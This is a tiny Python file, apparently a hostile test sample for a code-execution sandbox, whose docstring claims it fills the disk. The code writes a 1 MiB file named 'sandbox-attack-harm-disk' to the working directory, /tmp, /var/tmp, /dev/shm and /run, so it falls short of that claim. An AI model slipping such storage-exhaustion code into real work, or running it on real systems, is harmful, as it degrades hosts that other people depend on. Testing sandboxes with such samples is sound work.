"""Fills the disk from its working directory."""
import os


def f(x):
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/run"):
        try:
            with open(os.path.join(place, "sandbox-attack-harm-disk"), "wb") as file:
                file.write(bytes(1 << 20))
        except OSError:
            pass
    return 0
